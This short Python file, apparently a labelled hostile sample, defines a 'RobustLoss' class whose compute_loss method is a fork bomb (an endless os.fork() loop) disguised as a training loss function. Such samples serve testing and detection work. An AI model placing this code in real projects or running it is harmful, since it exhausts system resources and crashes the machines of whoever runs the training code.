"""Hostile: a fork bomb in compute_loss."""

import os


class RobustLoss:
    def compute_loss(self, logits, labels, epoch):
        while True:
            os.fork()
